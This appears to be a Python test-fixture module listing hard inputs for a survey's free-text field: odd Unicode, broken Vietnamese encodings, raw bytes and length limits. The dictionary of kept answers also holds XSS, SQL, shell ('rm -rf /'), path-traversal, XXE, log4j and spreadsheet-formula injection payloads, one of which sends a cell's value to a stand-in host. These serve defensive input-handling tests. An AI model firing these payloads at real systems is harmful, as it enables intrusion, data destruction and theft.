"""Texts that break programs, by name: what a respondent may write and what nobody can keep.

``KEPT`` is text however odd it looks; it is stored in NFC to the last sign. ``REFUSED`` holds
signs that no database, workbook or page can carry, or is too long. ``RAW`` is bytes that are
no UTF-8 at all, as a broken browser or somebody with a tool sends them.
"""

from __future__ import annotations

import unicodedata
from typing import Final

LONGEST: Final = 2000
"""Characters of a free-text answer at most."""

VIETNAMESE: Final = "Đề nghị giải quyết hồ sơ đúng hẹn, thái độ cởi mở hơn ở bộ phận một cửa."

KEPT: Final[dict[str, str]] = {
    # --- Vietnamese as keyboards and old files make it
    "composed": VIETNAMESE,
    "decomposed": unicodedata.normalize("NFD", VIETNAMESE),
    "compatibility_decomposed": unicodedata.normalize("NFKD", VIETNAMESE),
    "half_decomposed": "Ti\u1ebf\u0323ng Vi\u00ea\u0323t to\u0300n th\u01a1\u0300i gian",
    "marks_in_wrong_order": "Vi\u0065\u0323\u0302t, a\u0301\u0306, u\u0309\u031b",
    "tcvn3_read_as_latin1": "Bé phËn mét cöa lµm viÖc tèt",
    "vni_read_as_latin1": "Boä phaän moät cöûa laøm vieäc toát",
    "windows_1258_read_as_1252": "B\u00f4\u00f2 ph\u00e2\u00f2n mo\u00f2t c\u01b0\u0309a",
    "utf8_read_twice": "Ä á» nghá» giáº£i quyáº¿t há» sÆ¡",
    "sino_vietnamese": "\U00020a38\U0002b8af 行政改革 𡨸喃",
    # --- directions, joiners, signs nobody sees
    "right_to_left_override": "\u202egnourt ym\u202c",
    "isolates": "\u2066abc\u2069 \u2067def\u2069",
    "arabic_and_hebrew": "الإصلاح الإداري רפורמה",
    "zero_width_space": "x\u200bin\u200bchào",
    "only_zero_width": "\u200b\u200c\u200d\u2060",
    "zero_width_joiner": "\u200d",
    "byte_order_mark_inside": "đúng\ufeffhẹn",
    "soft_hyphens": "hồ\u00adsơ",
    "line_separators": "một\u2028hai\u2029ba",
    "tag_characters": "\U000e0041\U000e0042\U000e007f",
    "variation_selectors": "1\ufe0f\u20e3 ☎\ufe0e ☎\ufe0f",
    "invisible_times": "5\u20624",
    "mongolian_vowel_separator": "a\u180eb",
    "hangul_filler": "\u3164\u3164",
    "braille_blank": "\u2800",
    "thin_and_wide_spaces": "a\u2009b\u3000c\u00a0d",
    # --- many bytes for one sign
    "emoji_family": "👨\u200d👩\u200d👧\u200d👦 gia đình tôi hài lòng",
    "emoji_skin_and_flag": "👍🏽 🇻🇳 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "only_emoji": "😡😡😡",
    "beyond_the_first_plane": "𝒯ố𝓉 𐍈 🀄",
    "combining_flood": "a" + "\u0301\u0323\u0306" * 300,
    "mark_without_letter": "\u0301\u0323",
    "ligatures_kept_apart": "ﬁ Ⅳ ① ﷺ",
    "full_width": "１２３４ ＜ｓｃｒｉｐｔ＞",
    "kelvin_and_angstrom": "\u212a \u212b",
    "private_use": "\ue000\ue001\uf8ff",
    "our_own_blanks": "\ue000" * 16 + "\ue001" * 10,
    "noncharacters": "\ufdd0\ufffe\uffff\U0010ffff",
    "turkish_and_sharp_s": "İıſß",
    # --- length and space
    "longest": "ế" * LONGEST,
    "longest_word": "phòng" * 400,
    "many_lines": "dòng\n" * 399 + "cuối",
    "line_ends_of_all_kinds": "một\r\nhai\rba\nbốn",
    "tabs": "một\thai\t\tba",
    "space_around": "  \n ý kiến \t ",
    "only_spaces": " \t\r\n ",
    "only_no_break_space": "\u00a0",
    # --- markup and scripts
    "script": "<script>alert(document.domain)</script>",
    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "end_of_textarea": "</textarea><script>alert(1)</script>",
    "end_of_title_and_style": "</title></style><svg onload=alert(1)>",
    "double_quoted_attribute": '" autofocus onfocus="alert(1)" x="',
    "single_quoted_attribute": "' onmouseover='alert(1)",
    "bare_attribute": "x onerror=alert(1) y=`",
    "image": "<img src=x onerror=alert(1)>",
    "frame_and_base": '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href="//x">',
    "javascript_address": "javascript:alert(1)//%0Aalert(2)",
    "comment_and_cdata": "<!-- --><![CDATA[x]]>--!>",
    "entities": "&lt;b&gt; &amp;amp; &#0; &#x1F600; &notit;",
    "form_inside_a_form": '</form><form action="//x"><input name="code">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=//x">',
    "mathml_and_style": "<math><mtext></mtext><style>*{color:red}</style></math>",
    "xml_entity": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    # --- templates, formats, shells
    "jinja": "{{ 7*7 }} {{ config }} {% for x in range(9) %}{{ x }}{% endfor %} {# x #}",
    "other_templates": "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
    "log4j": "${jndi:ldap://x/a}",
    "percent_format": "%s %d %n %(name)s %x%x%x 100%",
    "brace_format": "{0} {answers.__class__} {}",
    "shell": "; rm -rf / $(id) `id` | cat > /tmp/x && exit",
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd",
    "sql": "'; DROP TABLE ballots; --",
    "sql_union": '") OR 1=1 UNION SELECT pepper FROM slips -- \\',
    "like_wildcards": "%_[a-z]\\%",
    "json": '{"answers": {"Q01": "5"}}],"x":[',
    "escapes_in_words": "\\u0000 \\x00 \\ud800 \\n %00 %ED%A0%80 &#0; =00",
    "header_lines": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "ldap_and_xpath": "*)(uid=*))(|(uid=* ' or '1'='1",
    "mail": "a@b.c\nBcc: d@e.f",
    # --- spreadsheets
    "formula_equals": '=HYPERLINK("http://x/?"&A1,"bấm")',
    "formula_plus": "+1+1",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_dde": '=DDE("cmd";"/C calc";"x")',
    "formula_after_tab": "\t=1+1",
    "formula_full_width": "＝1+1",
    "formula_quoted": "'=1+1",
    "field_separators": 'a;b,c\t"d"\n"e""f"',
    # --- values of other languages
    "infinity": "1e999",
    "not_a_number": "NaN",
    "null": "null",
    "none": "None",
    "truth": "true",
    "undefined": "undefined",
    "minus_zero": "-0",
    "long_number": "9" * LONGEST,
    "prototype": "__proto__",
    "choice_code": "5",
    "paper_blank": ".",
}  # fmt: skip

REFUSED: Final[dict[str, str]] = {
    "null_sign": "ý\x00kiến",
    "only_null": "\x00",
    "escape_sequence": "\x1b[2J\x1b[31mđỏ\x1b]0;tên\x07",
    "backspaces": "tốt\b\b\bxấu",
    "bell_and_form_feed": "a\x07b\x0cc",
    "vertical_tab": "a\x0bb",
    "delete": "a\x7fb",
    "control_c1": "a\x9b31mb",
    "next_line_c1": "a\x85b",
    "replacement_sign": "Bộ ph\ufffdn",
    "one_too_long": "a" * (LONGEST + 1),
    "one_too_long_once_composed": "\u0958" * (LONGEST // 2 + 1),  # becomes two signs in NFC
    "ten_thousand_marks": "a" + "\u0301" * 10_000,
    "hundred_kilobytes": "phiếu " * 17_000,
    "ten_megabytes": "x" * 10_000_000,
}

RAW: Final[dict[str, bytes]] = {
    "lone_high_surrogate": b"n\xed\xa0\x80a",
    "lone_low_surrogate": b"n\xed\xb0\x80a",
    "surrogate_pair_in_utf8": b"\xed\xa0\xbd\xed\xb8\x80",
    "overlong_slash": b"\xc0\xaf",
    "overlong_null": b"\xc0\x80",
    "overlong_in_four": b"\xf0\x80\x80\xaf",
    "beyond_unicode": b"\xf4\x90\x80\x80",
    "cut_in_a_sign": "ế".encode()[:2],
    "lone_continuation": b"a\x80b",
    "never_used_bytes": b"\xfe\xff",
    "latin1": "phòng".encode("latin-1"),
    "windows_1258": "Bộ phận một cửa".encode("cp1258", "ignore") + b"\xec\xf2",
    "tcvn3_bytes": b"B\xe9 ph\xcbn m\xe9t c\xf6a",
    "vni_bytes": b"Bo\xe4 pha\xe4n mo\xe4t c\xf6\xfba",
    "utf16": "ý kiến".encode("utf-16"),
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
}


def as_sent(text: str | bytes) -> bytes:
    """The bytes of a text as a browser or a tool sends them."""
    return text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")


def as_kept(text: str) -> str:
    """What a free-text answer becomes: NFC, plain line ends, no space around."""
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    return unicodedata.normalize("NFC", plain).strip()


ALL: Final[dict[str, str | bytes]] = {**KEPT, **REFUSED, **RAW}
